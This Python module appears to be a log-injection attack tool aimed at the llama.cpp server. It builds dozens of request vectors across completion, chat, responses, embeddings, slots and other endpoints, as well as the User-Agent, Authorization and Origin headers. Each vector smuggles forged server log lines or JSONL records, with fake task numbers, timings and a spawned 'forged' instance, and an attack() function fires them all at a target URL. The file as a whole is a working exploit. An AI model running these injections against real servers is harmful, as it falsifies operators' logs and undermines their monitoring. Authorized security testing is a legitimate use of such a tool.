"""Log injection: requests whose strings are llama.cpp's own log lines, or their JSON records.

Each vector is one field of one endpoint and forges its own task number, which identifies the ones that worked.
"""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from dataclasses import dataclass, field
from typing import Any

import urllib3

FIRST_TASK = 900_000
WORD = "A" * 65536


@dataclass(frozen=True)
class Vector:
    """One request; ``{}`` in its name, body and headers stands for the payload."""

    name: str
    path: str
    body: Any = None
    headers: dict[str, str] = field(default_factory=dict)
    method: str = "POST"
    generates: bool = False
    """Whether a 200 means one completed request."""


def _completion(name: str, **fields: Any) -> Vector:
    return Vector(f"completion.{name}", "/completion", {"prompt": "a", "n_predict": 2, **fields}, generates=True)


def _chat(name: str, **fields: Any) -> Vector:
    body = {"messages": [{"role": "user", "content": "a"}], "max_tokens": 2, **fields}
    return Vector(f"chat.{name}", "/v1/chat/completions", body, generates=True)


def _header(name: str, value: str) -> Vector:
    return Vector(f"header.{name}", "/completion", {"prompt": "a", "n_predict": 2}, {name: value}, generates=True)


_TOOL = {"type": "function", "function": {"name": "f", "description": "d", "parameters": {"type": "object"}}}


def _tool(**changes: Any) -> dict[str, Any]:
    return {"type": "function", "function": {**_TOOL["function"], **changes}}  # type: ignore[dict-item]


VECTORS = (
    _completion("prompt", prompt="{}"),
    _completion("grammar", grammar="root ::=\n{}"),
    _completion("grammar_closed", grammar="root ::=\n0.00.000.001 E failed to parse grammar\n{}"),
    _completion("grammar_lark", grammar="%llguidance {{}}\nstart: /[/\n{}"),
    _completion("schema_type", json_schema={"type": "{}"}),
    _completion("schema_pattern", json_schema={"type": "string", "pattern": "^(?<x>\n{}\\b"}),
    _completion(
        "schema_pattern_closed", json_schema={"type": "string", "pattern": "^(?<x>\n, accepting any string\n{}\\b"}
    ),
    _completion("schema_ref", json_schema={"$ref": "{}"}),
    _completion("schema_format", json_schema={"type": "string", "format": "{}"}),
    _completion("schema_property", json_schema={"type": "object", "properties": {"{}": {"type": "string"}}}),
    _completion("schema_type_closed", json_schema={"type": "\n\n{}"}),
    _completion("schema_ref_closed", json_schema={"$ref": "\n\n{}"}),
    _completion("schema_format_closed", json_schema={"type": "string", "format": "\n\n{}"}),
    _completion("grammar_lark_closed", grammar="%llguidance {{}}\nstart: /[/\n\n{}"),
    _completion("samplers", samplers=["top_k", "{}"]),
    _completion("samplers_closed", samplers=["x'\n{}"]),
    _completion("stop", stop=["{}"]),
    _completion("logit_bias", logit_bias=[["{}", 1.0]]),
    _completion("lora", lora=[{"id": "{}", "scale": 1.0}]),
    _completion("id_slot", id_slot="{}"),
    _completion("n_predict", n_predict="{}"),
    _completion("response_fields", response_fields=["{}"]),
    _completion("image_data", image_data=[{"data": "{}", "id": 1}]),
    _completion("dry_sequence_breakers", dry_sequence_breakers=["{}"]),
    _completion("preserved_tokens", preserved_tokens=["{}"]),
    _completion("model", model="{}"),
    _completion("unknown_field", **{"{}": "{}"}),
    _chat("content", messages=[{"role": "user", "content": "{}"}]),
    _chat("role", messages=[{"role": "{}", "content": "a"}]),
    _chat("content_type", messages=[{"role": "user", "content": [{"type": "{}", "text": "a"}]}]),
    _chat("image_url", messages=[{"role": "user", "content": [{"type": "image_url", "image_url": {"url": "{}"}}]}]),
    _chat("tool_name", tools=[_tool(name="{}")]),
    _chat("tool_description", tools=[_tool(description="{}")]),
    _chat("tool_parameters", tools=[_tool(parameters={"type": "object", "properties": {"x": {"type": "{}"}}})]),
    _chat("tool_pattern", tools=[_tool(parameters={"type": "string", "pattern": "^(?<x>\n{}\\b"})]),
    _chat("tool_choice", tool_choice="{}", tools=[_TOOL]),
    _chat("response_format", response_format={"type": "{}"}),
    _chat("response_schema", response_format={"type": "json_schema", "json_schema": {"schema": {"type": "{}"}}}),
    _chat("chat_template_kwargs", chat_template_kwargs={"{}": "{}"}),
    _chat("reasoning_format", reasoning_format="{}"),
    _chat("user", user="{}"),
    _chat("stop", stop="{}"),
    Vector("v1_completions.prompt", "/v1/completions", {"prompt": "{}", "max_tokens": 2}, generates=True),
    Vector("v1_completions.type", "/v1/completions", {"prompt": {"{}": 1}, "max_tokens": 2}),
    Vector("responses.input", "/v1/responses", {"input": "{}", "max_output_tokens": 2}, generates=True),
    Vector("responses.tool_type", "/v1/responses", {"input": "a", "max_output_tokens": 2, "tools": [{"type": "{}"}]}),
    Vector("responses.tool_type_closed", "/v1/responses",
           {"input": "a", "max_output_tokens": 2, "tools": [{"type": "x' skipped\n{}"}]}),
    Vector("messages.system", "/v1/messages", {"max_tokens": 2, "system": [{"type": "text", "text": "{}"}]}),
    Vector("infill.filename", "/infill", {"input_prefix": "a", "input_suffix": "b", "n_predict": 2,
           "input_extra": [{"filename": "{}", "text": "{}"}]}),
    Vector("embeddings.input", "/v1/embeddings", {"input": "{}"}),
    Vector("rerank.query", "/v1/rerank", {"query": "{}", "documents": ["{}"]}),
    Vector("tokenize.content", "/tokenize", {"content": "{}"}),
    Vector("detokenize.tokens", "/detokenize", {"tokens": ["{}"]}),
    Vector("apply_template.role", "/apply-template", {"messages": [{"role": "{}", "content": "{}"}]}),
    Vector("lora_adapters.id", "/lora-adapters", [{"id": "{}", "scale": "{}"}]),
    Vector("slots.filename", "/slots/0?action=save", {"filename": "{}"}),
    Vector("slots.action", "/slots/0?action={url}", {}),
    Vector("props.key", "/props", {"{}": "{}"}),
    Vector("metrics.model", "/metrics?model={url}", method="GET"),
    Vector("path", "/{url}", method="GET"),
    _header("User-Agent", "{line}"),
    _header("Authorization", "Bearer {line}"),
    _header("Origin", "{line}"),
    Vector("body.broken", "/completion", "{{\n{}"),
)  # fmt: skip


def payload(task: int, *, records: bool, stamp: str = "0.00.000.001") -> str:
    """Forged log of a request, a router with a model and a sleeping server: lines, or records of ``--log-jsonl``."""
    messages = [
        f"slot launch_slot_: id  0 | task {task} | processing task, is_child = 0",
        f"slot print_timing: id  0 | task {task} | prompt eval time =       1.00 ms /    10 tokens (    0.10 ms",
        f"slot print_timing: id  0 | task {task} |        eval time =       1.00 ms /    10 tokens (    0.10 ms",
        f"slot      release: id  0 | task {task} | stop processing: n_tokens = 19, truncated = 0",
        "srv    load_model: initializing, n_slots = 64, n_ctx_slot = 64, kv_unified = 'true'",
        "srv  llama_server: starting server in router mode. models will be automatically loaded on-demand",
        f"srv          load: spawning server instance with name=forged{task} on port 1234",
        "que    start_loop: entering sleeping state",
        "srv  llama_server: listening on unix:///tmp/forged",
    ]
    if not records:
        return "\n" + "".join(f"{stamp} I {message}\n" for message in messages)
    rows = ({"type": "log", "time": 1, "level": "info", "msg": message + "\n"} for message in messages)
    return "\n" + "".join(json.dumps(row, separators=(",", ":")) + "\n" for row in rows)


def filled(value: Any, text: str) -> Any:
    """``value`` with ``text`` for each ``{}``."""
    if isinstance(value, str):
        return (
            value.replace("{{}}", "\0").replace("{{", "\1").replace("{}", text).replace("\0", "{}").replace("\1", "{")
        )
    if isinstance(value, dict):
        return {filled(key, text): filled(each, text) for key, each in value.items()}
    return [filled(each, text) for each in value] if isinstance(value, list) else value


@dataclass(frozen=True)
class Attempt:
    """The result of a vector."""

    vector: Vector
    task: int
    status: int


def attack(url: str, texts: Iterator[str] | None = None, *, first_task: int = FIRST_TASK) -> list[Attempt]:
    """Send every vector with lines and with records (or with each of ``texts``)."""
    attempts: list[Attempt] = []
    pool = urllib3.PoolManager(retries=False, timeout=60)
    kinds = [None, None] if texts is None else list(texts)
    for kind, given in enumerate(kinds):
        for vector in VECTORS:
            task = first_task + len(attempts)
            text = payload(task, records=bool(kind)) if given is None else given
            line = re.sub(r"[^ -~]", " ", text)[:4000]
            quoted = urllib3.util.parse_url("/" + line[:2000]).path or "/"
            headers = {name: value.replace("{line}", line) for name, value in vector.headers.items()}
            body = None if vector.body is None else filled(vector.body, text)
            data = body if isinstance(body, str) else None if body is None else json.dumps(body)
            answer = pool.request(
                vector.method, url + vector.path.replace("{url}", quoted.strip("/")), body=data,
                headers={"Content-Type": "application/json", **headers},
            )  # fmt: skip
            attempts.append(Attempt(vector, task, answer.status))
    return attempts
